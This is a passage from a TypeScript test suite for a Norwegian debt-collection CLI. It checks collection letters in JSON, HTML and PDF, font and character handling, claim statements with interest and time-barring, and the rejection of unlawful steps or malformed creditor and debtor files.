/**
 * Letters and ledger as their users meet them: `inkasso letter` in JSON, HTML and PDF (kept in
 * .artifacts/letters/), refused when the step is not lawful, the ledger in CSV and JSON, postings
 * that balance with the receivable equal to what is owed over the golden corpus and generated
 * claims, `replay --ledger`, and the HTTP endpoints.
 */
import { spawn, spawnSync } from 'node:child_process';
import { createWriteStream, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { createApi } from '../engine/api/app.ts';
import { folderVersions } from '../engine/api/folder-versions.ts';
import { buildLedger, ledgerCsv } from '../engine/ledger/ledger.ts';
import { buildLetter } from '../engine/letters/letter.ts';
import { dueLetter } from '../engine/letters/due.ts';
import { letterPdf } from '../engine/letters/pdf.ts';
import { standardFontsCan, unprintable } from '../engine/text/pdf-printable.ts';
import { generatePdfGlyphs } from '../scripts/generate-pdf-glyphs.ts';
import { letterHtml } from '../engine/letters/html.ts';
import { loadRules, readGoldenCases } from '../engine/node.ts';
import { evaluateClaim } from '../engine/evaluate/index.ts';
import { generateClaims } from '../engine/replay/generate.ts';
import fc from 'fast-check';
import { claimArb } from './property/arbitraries.ts';
import { validatorFor } from '../engine/rules/index.ts';
import { signedOre } from './support/money.ts';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('../', import.meta.url));
const bin = join(root, 'bin/inkasso.cjs');
const work = mkdtempSync(join(tmpdir(), 'inkasso-letters-'));
const artifacts = join(root, '.artifacts/letters');
mkdirSync(artifacts, { recursive: true });
afterAll(() => rmSync(work, { recursive: true, force: true }));
const rules = loadRules();
const at = (f: string) => join(work, f);
const cli = (args: string[]) => {
  // A run that hangs fails here (status null) rather than holding the whole suite.
  const r = spawnSync(process.execPath, [bin, ...args], { cwd: root, timeout: 120_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr.toString('utf8') };
};

const creditor = { name: 'Fjellvann Strøm AS', organisationNumber: '987 654 321', account: '1234.56.78903', address: ['Storgata 1', '0155 Oslo'] };
writeFileSync(at('creditor.json'), JSON.stringify(creditor));
const debtor = { name: 'Kari Nordmann', address: ['Bakkeveien 3', '0560 Oslo'] };
writeFileSync(at('debtor.json'), JSON.stringify(debtor));
const claim = {
  id: 'F-2026-17', debtor: { kind: 'consumer' }, creditor: { vatRegistered: true }, collection: 'egeninkasso', principal: '2000.00', invoiceDate: '2025-12-22', dueDate: '2026-01-05',
  events: [{ type: 'purring', date: '2026-01-20', fee: '38.00', deadlineDays: 14 }, { type: 'inkassovarsel', date: '2026-02-04', fee: '38.00', deadlineDays: 14 }],
};
writeFileSync(at('claim.json'), JSON.stringify(claim));

/** What the betalingsoppfordring for `claim` on 19.02.2026 carries, as its event records it. */
const BO_CARRIED = {
  fields: ['overskrift', 'kreditor', 'hva-kravet-gjelder', 'kravets-storrelse', 'rentesats', 'frist-for-betaling-eller-innsigelse', 'betale-eller-innsigelse', 'rettidig-betaling', 'videre-kostnader'],
  deadline: '2026-03-05', amount: '2218.59', costs: '189.00',
};

/** The text a PDF shows, decoded from its (deflated) content streams. */
function pdfText(pdf: Buffer): string {
  const out: string[] = [];
  const s = pdf.toString('latin1');
  for (const m of s.matchAll(/stream\r?\n([\s\S]*?)\r?\nendstream/g)) {
    let body = Buffer.from(m[1]!, 'latin1');
    try { body = inflateSync(body); } catch { /* not deflated */ }
    for (const t of body.toString('latin1').matchAll(/<([0-9a-fA-F]+)>/g)) out.push(Buffer.from(t[1]!, 'hex').toString('latin1'));
  }
  return out.join('');
}

/**
 * The text of a PDF whose fonts are embedded (Identity-H, glyph ids in the content), read back
 * through each font's ToUnicode map, as a PDF reader copies it.
 */
function embeddedPdfText(pdf: Buffer): string {
  const s = pdf.toString('latin1');
  const objects = new Map<string, { dict: string; stream: string | undefined }>();
  for (const m of s.matchAll(/(\d+) 0 obj\n?(<<[\s\S]*?>>)\n?(?:stream\r?\n([\s\S]*?)\r?\nendstream|endobj)/g)) {
    let stream: string | undefined;
    if (m[3] !== undefined) {
      const raw = Buffer.from(m[3], 'latin1');
      try { stream = inflateSync(raw).toString('latin1'); } catch { stream = raw.toString('latin1'); }
    }
    objects.set(m[1]!, { dict: m[2]!, stream });
  }
  // Resource name (F2) → glyph id → text, from the font's ToUnicode bfrange and bfchar entries.
  const maps = new Map<string, Map<number, string>>();
  const hex = (h: string) => String.fromCodePoint(...(h.match(/..../g) ?? []).map((u) => parseInt(u, 16)));
  for (const m of s.matchAll(/\/(F\d+) (\d+) 0 R/g)) {
    const toUnicode = /\/ToUnicode (\d+) 0 R/.exec(objects.get(m[2]!)?.dict ?? '')?.[1];
    const cmap = toUnicode === undefined ? undefined : objects.get(toUnicode)?.stream;
    if (cmap === undefined || maps.has(m[1]!)) continue;
    const map = new Map<number, string>();
    for (const r of cmap.matchAll(/<([0-9a-f]{4})> <([0-9a-f]{4})> \[([^\]]*)\]/gi)) {
      [...r[3]!.matchAll(/<([0-9a-f]+)>/gi)].forEach((u, i) => map.set(parseInt(r[1]!, 16) + i, hex(u[1]!)));
    }
    for (const c of cmap.matchAll(/^<([0-9a-f]{4})> <([0-9a-f]+)>$/gim)) map.set(parseInt(c[1]!, 16), hex(c[2]!));
    maps.set(m[1]!, map);
  }
  const out: string[] = [];
  for (const { stream } of objects.values()) {
    if (stream === undefined || !stream.includes(' Tm')) continue;
    let font: Map<number, string> | undefined;
    for (const t of stream.matchAll(/\/(F\d+) [\d.]+ Tf|<([0-9a-f]+)>/gi)) {
      if (t[1] !== undefined) font = maps.get(t[1]);
      else out.push((t[2]!.match(/..../g) ?? []).map((g) => font?.get(parseInt(g, 16)) ?? '\ufffd').join(''));
    }
  }
  return out.join('');
}

/** The text of each page of a PDF written by letterPdf (one content stream a page). */
function pdfPages(pdf: Buffer): string[] {
  const s = pdf.toString('latin1');
  const pages: string[] = [];
  for (const m of s.matchAll(/stream\r?\n([\s\S]*?)\r?\nendstream/g)) {
    const body = inflateSync(Buffer.from(m[1]!, 'latin1')).toString('latin1');
    if (!body.includes(' Tm')) continue;
    pages.push([...body.matchAll(/<([0-9a-fA-F]+)>/g)].map((t) => Buffer.from(t[1]!, 'hex').toString('latin1')).join(''));
  }
  return pages;
}

describe('inkasso letter', () => {
  it('writes a betalingsoppfordring as JSON, with every field, its value, hjemmel and level', () => {
    const r = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19', '--creditor', at('creditor.json'), '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    const l = JSON.parse(r.stdout.toString('utf8'));
    expect(l).toMatchObject({ letter: 'betalingsoppfordring', lawful: true, fee: { amount: '113.00' }, deadline: '2026-03-05', amountDue: '2218.59' });
    // The claim event the letter is, to record when it is sent: the days it gives, its lawful fee, and
    // what it carried: its fields, its last day, the amount to pay (2 000 + 45 days (06.01-19.02) at
    // 12,00 % / 365 = 29,59 + the costs) and the costs in it (purring 38 + inkassovarsel 38 + its own 113).
    expect(l.event).toEqual({ type: 'betalingsoppfordring', date: '2026-02-19', deadlineDays: 14, fee: '113.00', letter: BO_CARRIED });
    // The field's title in the law's words, its printed label in the debtor's.
    expect(l.fields.find((f: { id: string }) => f.id === 'kravets-storrelse')).toMatchObject({ level: 'MUST', hjemmel: 'inkassoloven § 10 annet ledd bokstav c', kind: 'figure', title: 'Kravets størrelse, med hovedkrav og tilleggskrav (forsinkelsesrente, inndrivingskostnader) hver for seg', label: 'Å betale' });
    expect(l.fields.find((f: { id: string }) => f.id === 'rentesats').text).toBe('Forsinkelsesrente 12,00 % per år, beregnet fra 06.01.2026');
    expect(l.fields.map((f: { id: string }) => f.id)).not.toContain('nemnd'); // only when an inkassoforetak collects
  });

  it('writes the same letter as self-contained HTML and as a PDF with æ, ø, å and § (kept as artifacts)', async () => {
    const html = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19', '--creditor', at('creditor.json'), '--debtor', at('debtor.json'), '--out', join(artifacts, 'betalingsoppfordring.html')]);
    expect(html.code, html.stderr).toBe(0);
    const page = readFileSync(join(artifacts, 'betalingsoppfordring.html'), 'utf8');
    expect(page).toMatch(/^<!doctype html>/);
    expect(page).toContain('@page { size: A4;');
    expect(page).not.toMatch(/<script|<link|src=/);
    expect(page).toContain('Fjellvann Strøm AS');
    // Addressed to the debtor given, in the address block below the creditor's.
    expect(page).toContain('<address class="to">Kari Nordmann<br>Bakkeveien 3<br>0560 Oslo</address>');
    expect(page).toContain('05.03.2026');
    // Each figure under its printed label, not the law's description of what the field must say.
    expect(page).toContain('<tr><th scope="row">Å betale</th><td>2 218,59 kr (hovedkrav 2 000,00 kr, renter 29,59 kr, gebyrer 189,00 kr)</td></tr>');
    expect(page).toContain('<tr><th scope="row">Frist for å betale eller komme med innsigelser</th><td>05.03.2026</td></tr>');
    expect(page).not.toContain('Kravets størrelse, med hovedkrav');
    const pdf = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19', '--creditor', at('creditor.json'), '--debtor', at('debtor.json'), '--out', join(artifacts, 'betalingsoppfordring.pdf')]);
    expect(pdf.code, pdf.stderr).toBe(0);
    const bytes = readFileSync(join(artifacts, 'betalingsoppfordring.pdf'));
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(bytes);
    expect(text).toContain('Fjellvann Strøm AS');
    expect(text).toContain('Kari NordmannBakkeveien 30560 Oslo');
    expect(text).toContain('Betalingsoppfordring');
    expect(text).toContain('§ 10');
    expect(text).toContain('Å betale');
    expect(text).not.toContain('Kravets størrelse');
    const statement = buildLetter(rules, { ...claim, events: [...claim.events, { type: 'payment', date: '2026-02-10', amount: '500.00' }] } as never, { step: 'kravspesifikasjon', date: '2026-03-01', creditor });
    writeFileSync(join(artifacts, 'kravspesifikasjon.pdf'), await letterPdf(statement));
    expect(pdfText(readFileSync(join(artifacts, 'kravspesifikasjon.pdf')))).toContain('Forsinkelsesrente');
    // One page: no page numbers.
    expect(pdfPages(await letterPdf(statement))).toHaveLength(1);
    expect(pdfText(await letterPdf(statement))).not.toContain(' av 1');
  });

  it('writes a name the standard fonts lack (Sámi, Polish) in an embedded font, not as wrong characters', async () => {
    // Helvetica's WinAnsi encoding has æ ø å and §, but not č, đ, ŋ, ŧ or ł: pdfkit wrote their
    // character codes as if they were its own, and the letter named "Áŋŋá Čoavddát" with garbage.
    const names = ['Áŋŋá Čoavddát Đuolbmá', 'Máret Ŧ. Šiŋŋás, Kárášjohka', 'Łukasz Żółć'];
    for (const name of names) {
      const l = buildLetter(rules, claim as never, { step: 'inkassovarsel', date: '2026-02-04', creditor, debtor: { name, address: ['Ávjovárgeaidnu 50', '9730 Kárášjohka'] } });
      const pdf = await letterPdf(l);
      const raw = pdf.toString('latin1');
      expect(raw).toMatch(/\/BaseFont \/[A-Z]{6}\+DejaVuSans\b/);
      expect(raw).toContain('/FontFile2');
      expect(raw).not.toContain('/Helvetica');
      const text = embeddedPdfText(pdf);
      expect(text).toContain(name);
      expect(text).toContain('9730 Kárášjohka');
      expect(text).toContain('Inkassovarsel');
      expect(text).not.toContain('\ufffd');
    }
    writeFileSync(join(artifacts, 'inkassovarsel-samisk-navn.pdf'), await letterPdf(buildLetter(rules, claim as never, { step: 'inkassovarsel', date: '2026-02-04', creditor, debtor: { name: names[0]!, address: ['9730 Kárášjohka'] } })));
    // A Norwegian letter stays in Helvetica, named and not embedded.
    const plain = (await letterPdf(buildLetter(rules, claim as never, { step: 'inkassovarsel', date: '2026-02-04', creditor, debtor }))).toString('latin1');
    expect(plain).toContain('/BaseFont /Helvetica');
    expect(plain).not.toContain('/FontFile2');
    // The creditor's address, the title and the payment line with the claim's id are written as the
    // rest is: → and − as -> and -, which Helvetica has (they were printed as wrong characters).
    const arrows = pdfText(await letterPdf(buildLetter(rules, { ...claim, id: 'F-2026−17' } as never, { step: 'inkassovarsel', date: '2026-02-04', creditor: { ...creditor, address: ['Storgata 1 → bakgården', '0155 Oslo'] }, debtor })));
    expect(arrows).toContain('Storgata 1 -> bakgården');
    expect(arrows).toContain('merk betalingen med F-2026-17.');
    expect(standardFontsCan('Kari Nordmann, Bakkeveien 3, 0560 Oslo – «Å» § 1-2 € œ')).toBe(true);
    expect(standardFontsCan('Čoavddát')).toBe(false);
  });

  it('refuses a PDF with a character it would print as an empty box or backwards, naming the file, the field and the character (exit 2)', async () => {
    // DejaVu Sans has no Chinese and no emoji, and PDFKit lays Arabic and Hebrew out left to right,
    // unjoined: those letters were written (exit 0) with boxes or the name backwards.
    const cases: [unknown, string, string][] = [
      [{ name: 'Wang 王小明', address: ['Storgata 1'] }, '/name', '"王" (U+738B) in the debtor\'s name: the fonts the PDF can embed do not have it'],
      [{ name: 'Kari Nordmann', address: ['Bakkeveien 3 🏠', '0560 Oslo'] }, '/address/0', '"🏠" (U+1F3E0) in line 1 of the debtor\'s address: the fonts the PDF can embed do not have it'],
      [{ name: 'إبراهيم Ali', address: ['Storgata 1'] }, '/name', '"إ" (U+0625) in the debtor\'s name: it is written right to left, which the PDF cannot lay out'],
      [{ name: 'דוד כהן', address: ['Storgata 1'] }, '/name', '"ד" (U+05D3) in the debtor\'s name: it is written right to left'],
    ];
    for (const [i, [d, pointer, says]] of cases.entries()) {
      const file = at(`debtor-unprintable-${i}.json`);
      writeFileSync(file, JSON.stringify(d));
      const out = at(`unprintable-${i}.pdf`);
      const r = cli(['letter', at('claim.json'), '--step', 'inkassovarsel', '--date', '2026-02-04', '--creditor', at('creditor.json'), '--debtor', file, '--out', out]);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toContain(`${file}: ${pointer}: the PDF cannot print ${says}`);
      expect(r.stderr).toMatch(/the letter as HTML has it \(--format html\)\n$/);
      expect(existsSync(out)).toBe(false);
      // As HTML, the reader's browser lays it out: written.
      expect(cli(['letter', at('claim.json'), '--step', 'inkassovarsel', '--date', '2026-02-04', '--creditor', at('creditor.json'), '--debtor', file, '--format', 'html', '--out', at(`unprintable-${i}.html`)]).code).toBe(0);
    }
    // The creditor and the claim's id too, each named.
    writeFileSync(at('creditor-emoji.json'), JSON.stringify({ ...creditor, name: 'Fjellvann Strøm AS 🧾' }));
    const c = cli(['letter', at('claim.json'), '--step', 'purring', '--date', '2026-01-20', '--creditor', at('creditor-emoji.json'), '--out', at('creditor-emoji.pdf')]);
    expect(c.code, c.stderr).toBe(2);
    expect(c.stderr).toContain(`${at('creditor-emoji.json')}: /name: the PDF cannot print "🧾" (U+1F9FE) in the creditor's name`);
    writeFileSync(at('claim-cjk.json'), JSON.stringify({ ...claim, id: '发票-17' }));
    const id = cli(['letter', at('claim-cjk.json'), '--step', 'purring', '--date', '2026-01-20', '--out', at('claim-cjk.pdf')]);
    expect(id.code, id.stderr).toBe(2);
    expect(existsSync(at('claim-cjk.pdf'))).toBe(false);
    expect(id.stderr).toContain(`${at('claim-cjk.json')}: /id: the PDF cannot print "发" (U+53D1) in the claim's id`);
    // A Sámi name, Greek and Cyrillic are in DejaVu Sans: printed.
    for (const name of ['Áŋŋá Čoavddát', 'Σοφία Παπαδοπούλου', 'Ольга Иванова']) {
      const l = buildLetter(rules, claim as never, { step: 'inkassovarsel', date: '2026-02-04', creditor, debtor: { name, address: ['9730 Kárášjohka'] } });
      expect(embeddedPdfText(await letterPdf(l))).toContain(name);
    }
  });

  it('knows which characters the embedded font has from a table made from the font itself (npm run gen:pdf-glyphs)', () => {
    // The check reads no font file (the rule checks are pure): the table must be the installed font's.
    expect(readFileSync(join(root, 'engine/text/pdf-glyphs.generated.ts'), 'utf8')).toBe(generatePdfGlyphs());
    expect(unprintable('Áŋŋá Čoavddát, Σοφία, Ольга, Nguyễn, Łukasz')).toBeUndefined();
    expect(unprintable('Kari 🙂')).toBe('🙂');
    expect(unprintable('王小明')).toBe('王');
  });

  it('keeps each line of a long statement whole on one page, and numbers the pages', async () => {
    // 120 payments of 100 kr: each a line with its amount. pdfkit broke a line that reached the
    // bottom margin by itself, its text on one page and its amount on the next: 19 pages, most of
    // them holding a line or two.
    const payments = Array.from({ length: 120 }, (_, i) => ({ type: 'payment', date: `2026-${String(3 + Math.floor(i / 28)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')}`, amount: '100.00' }));
    const long = buildLetter(rules, { ...claim, principal: '900000.00', events: [...claim.events, ...payments] } as never, { step: 'kravspesifikasjon', date: '2026-07-30', creditor, debtor });
    const pdf = await letterPdf(long);
    writeFileSync(join(artifacts, 'kravspesifikasjon-lang.pdf'), pdf);
    const pages = pdfPages(pdf);
    expect(pages).toHaveLength(8);
    let lines = 0;
    pages.forEach((page, i) => {
      // The texts of a page in order: every payment's line is followed by its amount, on the same page.
      const payments = page.match(/Innbetaling \d\d\.\d\d\.2026/g) ?? [];
      expect(page.match(/-100,00 kr/g) ?? [], `page ${i + 1}`).toHaveLength(payments.length);
      lines += payments.length;
      expect(page).toContain(`Kravspesifikasjon F-2026-17 · side ${i + 1} av 8`);
    });
    expect(lines).toBe(120);
    expect(pages[7]).toContain('Saldo 30.07.2026');
  });

  it('gives a claim statement whose lines add up to its balance, also after an overpayment and for time-barred interest or a time-barred claim', () => {
    const base = { debtor: { kind: 'consumer' }, creditor: { vatRegistered: true }, collection: 'egeninkasso', principal: '1000.00' } as const;
    const lines = (claim: object, date: string) => buildLetter(rules, claim as never, { step: 'kravspesifikasjon', date }).statement!.map((l) => [l.text, l.amount]);
    // 1 500 paid on 1 015.71 owed: the 484.29 over is the debtor's to get back, not a negative balance.
    expect(lines({ ...base, id: 'OP', invoiceDate: '2024-01-01', dueDate: '2024-01-15', events: [{ type: 'payment', date: '2024-03-01', amount: '1500.00' }] }, '2024-06-01')).toEqual([
      ['Hovedstol, faktura OP (forfall 15.01.2024)', '1000.00'],
      ['Forsinkelsesrente 16.01.2024–01.03.2024: 46 dager à 12,50 %', '15.71'],
      ['Innbetaling 01.03.2024', '-1500.00'],
      ['Betalt for mye, tilbakebetales skyldneren', '484.29'],
      ['Saldo 01.06.2024', '0.00'],
    ]);
    // A letter's amount, in its parts, adds up the same way (built with --force: the claim is paid).
    const paid = buildLetter(rules, { ...base, id: 'OP', invoiceDate: '2024-01-01', dueDate: '2024-01-15', events: [{ type: 'payment', date: '2024-03-01', amount: '1500.00' }] } as never, { step: 'betalingsoppfordring', date: '2024-06-01', creditor, force: true });
    expect(paid.fields.find((f) => f.id === 'kravets-storrelse')!.text).toBe('0,00 kr (hovedkrav 1\u00a0000,00 kr, renter 15,71 kr, gebyrer 0,00 kr, betalt 1\u00a0500,00 kr, betalt for mye 484,29 kr (tilbakebetales))');
    // Three years after the part payment that last interrupted it, the claim is time-barred (foreldelsesloven § 24 nr. 2).
    const barred = lines({ ...base, id: 'TB', invoiceDate: '2019-01-01', dueDate: '2019-01-15', events: [{ type: 'payment', date: '2019-03-01', amount: '100.00' }] }, '2023-06-01');
    expect(barred.slice(-4)).toEqual([['Forsinkelsesrente i alt (summen rundet én gang)', '353.83'], ['Innbetaling 01.03.2019', '-100.00'], ['Foreldet (fristen gikk ut 01.03.2022)', '-1253.83'], ['Saldo 01.06.2023', '0.00']]);
    // After a judgment the principal runs ten years, but each day's interest is time-barred three years after it accrued.
    const dom = lines({ ...base, id: 'DOM', invoiceDate: '2015-01-01', dueDate: '2015-01-15', events: [{ type: 'forliksklage', date: '2015-06-01' }, { type: 'dom', date: '2016-01-05' }] }, '2020-01-01');
    expect(dom.slice(-3)).toEqual([['Forsinkelsesrente i alt (summen rundet én gang)', '433.96'], ['Foreldede renter', '-85.05'], ['Saldo 01.01.2020', '1348.91']]);
    // And over random claims: the lines (the interest by its total when it has several periods) make the balance.
    for (const { claim: c, asOf } of fc.sample(claimArb, { numRuns: 1000, seed: 3 })) {
      const l = lines(c, asOf);
      const several = l.some(([text]) => text === 'Forsinkelsesrente i alt (summen rundet én gang)');
      const counted = l.slice(0, -1).filter(([text]) => !(several && /^Forsinkelsesrente \d/.test(text!)));
      expect(counted.reduce((sum, [, a]) => sum + signedOre(a!), 0), `${JSON.stringify(c)} ${asOf}`).toBe(signedOre(l[l.length - 1]![1]!));
    }
  });

  it('says what the figures it states rest on that has one source, and not what only a next step used (stderr and JSON, never on the letter)', () => {
    const base = { debtor: { kind: 'consumer' }, creditor: { vatRegistered: true }, collection: 'egeninkasso', principal: '1000.00' } as const;
    const codes = (l: { warnings: readonly { code: string; rule?: string }[] }) => l.warnings.map((w) => `${w.code} ${w.rule ?? ''}`.trim());
    // Due exactly 01.10.2020: the 1/20 fraction of the purring's fee rests on one source for that day.
    const purring = buildLetter(rules, { ...base, id: 'S-1', invoiceDate: '2020-09-17', dueDate: '2020-10-01', events: [] } as never, { step: 'purring', date: '2020-10-20' });
    expect(purring.fee).toMatchObject({ amount: '35.00' });
    expect(codes(purring)).toEqual(['VALUE_UNCONFIRMED gebyrer.purring-andel']);
    // After a betalingsoppfordring the next step, rettslig inndriving, reads the six months of
    // inkassoloven § 11 (one source): the evaluation warns of it, the claim statement does not state
    // it. The statement's own content list rests on one source, and a payment after its day is left out.
    const claimBo = { ...base, id: 'S-2', invoiceDate: '2024-03-01', dueDate: '2024-03-15', events: [
      { type: 'purring', date: '2024-04-02', fee: '35.00', deadlineDays: 14 }, { type: 'inkassovarsel', date: '2024-04-18', fee: '35.00', deadlineDays: 14 },
      { type: 'betalingsoppfordring', date: '2024-05-06', fee: '105.00', deadlineDays: 14 }, { type: 'payment', date: '2024-07-01', amount: '500.00' }] };
    const statement = buildLetter(rules, claimBo as never, { step: 'kravspesifikasjon', date: '2024-06-01' });
    expect(codes({ warnings: statement.result.warnings })).toContain('VALUE_UNCONFIRMED frister.rettslig-inndriving-innen');
    expect(codes(statement)).toEqual(['EVENTS_AFTER_AS_OF', 'VALUE_UNCONFIRMED letters.kravspesifikasjon']);
    expect(statement.warnings[1]!.message).toMatch(/^letters\.kravspesifikasjon \(gyldig fra 01\.01\.1989\) har bare én kilde \(status S\): https:\/\/jusinfo\.no\//);
    // The CLI says them on stderr, in every format; the JSON letter has them; the HTML letter, which goes to the debtor, does not.
    writeFileSync(at('claim-s.json'), JSON.stringify({ ...base, id: 'S-1', invoiceDate: '2020-09-17', dueDate: '2020-10-01', events: [] }));
    for (const format of ['json', 'html']) {
      const r = cli(['letter', at('claim-s.json'), '--step', 'purring', '--date', '2020-10-20', '--format', format]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).toBe(`inkasso letter: warning: VALUE_UNCONFIRMED: ${purring.warnings[0]!.message}\n`);
      const out = r.stdout.toString('utf8');
      if (format === 'json') expect(JSON.parse(out).warnings).toEqual(purring.warnings);
      else expect(out).not.toMatch(/VALUE_UNCONFIRMED|én kilde/);
    }
  });

  it('refuses a letter the law does not allow that day (exit 1, the violation), and builds it only with --force, without the fee', () => {
    const r = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-18', '--creditor', at('creditor.json')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('STEP_TOO_EARLY');
    const f = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-18', '--creditor', at('creditor.json'), '--force']);
    expect(f.code).toBe(0);
    const l = JSON.parse(f.stdout.toString('utf8'));
    expect(l.lawful).toBe(false);
    expect(l.fee.amount).toBe('0.00'); // never an unlawful fee
  });

  it('says in words why a letter cannot be written where --out points, and leaves nothing there', () => {
    const cases: [string, RegExp][] = [
      [at('no-folder/brev.pdf'), /no-folder\/brev\.pdf: cannot write: the folder .*no-folder does not exist$/m],
      [join(at('claim.json'), 'brev.pdf'), /claim\.json\/brev\.pdf: cannot write: .*claim\.json is not a folder$/m],
      [work, /cannot write: it is a folder$/m],
      // The folder is there, but the system allows no file in it.
      ['/proc/brev.pdf', /\/proc\/brev\.pdf: cannot write: the system allows no file there$/m],
    ];
    for (const [out, message] of cases) {
      const r = cli(['letter', at('claim.json'), '--step', 'purring', '--date', '2026-01-20', '--creditor', at('creditor.json'), '--format', 'pdf', '--out', out]);
      expect(r.code, out).toBe(2);
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/ENOENT|ENOTDIR|EISDIR|\.partial|\n\s+at /);
    }
    expect(readdirSync(work).filter((f) => f.endsWith('.partial'))).toEqual([]);
  });

  it('refuses a creditor or debtor file it cannot use, saying what is wrong (exit 2)', () => {
    for (const [file, body, message] of [
      ['d-short.json', { name: 'K' }, "/name: the debtor's name, 2 to 200 printable characters on one line, two of them not spaces"],
      ['d-extra.json', { name: 'Kari Nordmann', nationalId: '01010112345' }, '/nationalId: unknown property (allowed: name, address)'],
      ['d-lines.json', { name: 'Kari Nordmann', address: ['1', '2', '3', '4', '5', '6', '7'] }, '/address: at most six lines of text, each of up to 200 printable characters, not all spaces'],
      ['d-list.json', [debtor], 'a debtor is a JSON object: { "name": …, "address": [ … ] }'],
      ['d-blank.json', { name: '   ', address: ['Bakkeveien 3'] }, "/name: the debtor's name, 2 to 200 printable characters on one line, two of them not spaces"],
      ['d-nameless.json', { address: ['Bakkeveien 3'] }, "/name: the debtor's name, 2 to 200 printable characters on one line, two of them not spaces"],
      ['d-line.json', { name: 'Kari Nordmann', address: ['Bakkeveien 3', 560] }, '/address: at most six lines of text, each of up to 200 printable characters, not all spaces'],
      // A line break or a control character would print an extra line or garbage in the window.
      ['d-newline.json', { name: 'Kari\nNordmann', address: ['Bakkeveien 3'] }, "/name: the debtor's name, 2 to 200 printable characters on one line, two of them not spaces"],
      ['d-tab.json', { name: 'Kari Nordmann', address: ['Bakkeveien 3\t', '0560 Oslo'] }, '/address: at most six lines of text, each of up to 200 printable characters, not all spaces'],
      ['d-empty-line.json', { name: 'Kari Nordmann', address: ['Bakkeveien 3', ' '] }, '/address: at most six lines of text, each of up to 200 printable characters, not all spaces'],
    ] as const) {
      writeFileSync(at(file), JSON.stringify(body));
      const r = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19', '--creditor', at('creditor.json'), '--debtor', at(file)]);
      expect(r.code, file).toBe(2);
      expect(r.stderr.trim()).toBe(`${at(file)}: ${message}`);
    }
    for (const [file, body, message] of [
      ['c-org.json', { ...creditor, organisationNumber: '98765432' }, '/organisationNumber: nine digits (987 654 321)'],
      ['c-account.json', { ...creditor, account: '1234 56 78903' }, '/account: a Norwegian account number, eleven digits (1234.56.78903)'],
      ['c-extra.json', { ...creditor, iban: 'NO93 8601 1117 947' }, '/iban: unknown property (allowed: name, organisationNumber, account, address)'],
      ['c-escape.json', { ...creditor, name: 'Fjellvann Strøm AS\u001b[8m' }, "/name: the creditor's name, 2 to 200 printable characters on one line, two of them not spaces"],
      ['c-text.json', 'Fjellvann Strøm AS', 'a creditor is a JSON object: { "name": …, "organisationNumber": …, "account": … }'],
    ] as const) {
      writeFileSync(at(file), JSON.stringify(body));
      const r = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19', '--creditor', at(file)]);
      expect(r.code, file).toBe(2);
      expect(r.stderr.trim()).toBe(`${at(file)}: ${message}`);
    }
    // Every problem of a file at once (only the first was said), a misspelt key with the one meant.
    writeFileSync(at('c-three.json'), JSON.stringify({ nam: 'Fjellvann Strøm AS', account: '1234', adress: ['Storgata 1'] }));
    const three = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19', '--creditor', at('c-three.json')]);
    expect(three.code).toBe(2);
    expect(three.stderr.trim().split('\n')).toEqual([
      `${at('c-three.json')}: /name: the creditor's name, 2 to 200 printable characters on one line, two of them not spaces`,
      `${at('c-three.json')}: /nam: unknown property (allowed: name, organisationNumber, account, address; did you mean 'name'?)`,
      `${at('c-three.json')}: /adress: unknown property (allowed: name, organisationNumber, account, address; did you mean 'address'?)`,
      `${at('c-three.json')}: /account: a Norwegian account number, eleven digits (1234.56.78903)`,
    ]);
  });

  it('records what each letter carried in its event, and the letter passes the letter checks of the claim it is recorded in', () => {
    // Each letter of the ladder, written for the day it is due and recorded: the next evaluation
    // checks it against its rule as any letter recorded so, and finds nothing wrong with it.
    const bare = { ...claim, events: [] as object[] };
    let c = bare as typeof claim;
    for (const [step, date] of [['purring', '2026-01-20'], ['inkassovarsel', '2026-02-04'], ['betalingsoppfordring', '2026-02-19']] as const) {
      const l = buildLetter(rules, c as never, { step, date, creditor });
      expect((l.event as { letter?: unknown }).letter).toMatchObject({ amount: l.amountDue, deadline: l.deadline });
      c = { ...c, events: [...c.events, l.event as never] };
    }
    // Interest from 06.01 at 12,00 % / 365 on 2 000: 15 days to 20.01 = 9,86; 30 days to 04.02 = 19,73.
    expect(c.events).toEqual([
      { type: 'purring', date: '2026-01-20', deadlineDays: 14, fee: '38.00', letter: { fields: ['overskrift', 'kreditor', 'hva-kravet-gjelder', 'belop', 'gebyr', 'betalingsfrist'], deadline: '2026-02-03', amount: '2047.86', costs: '38.00' } },
      { type: 'inkassovarsel', date: '2026-02-04', deadlineDays: 14, fee: '38.00', letter: { fields: ['overskrift', 'kreditor', 'hva-kravet-gjelder', 'belop', 'varsel-om-inkasso', 'betalingsfrist', 'rettidig-betaling', 'gebyr'], deadline: '2026-02-18', amount: '2095.73', costs: '76.00' } },
      { type: 'betalingsoppfordring', date: '2026-02-19', deadlineDays: 14, fee: '113.00', letter: BO_CARRIED },
    ]);
    const result = evaluateClaim(rules, c as never, { asOf: '2026-03-20' });
    expect(result.violations).toEqual([]);
    expect(result.warnings.filter((w) => w.code === 'LETTER_MISSING_RECOMMENDED')).toEqual([]);
    expect(result.balance.fees).toBe('189.00');
  });

  it('writes letters that pass its own letter checks, over 1 000 generated claims', () => {
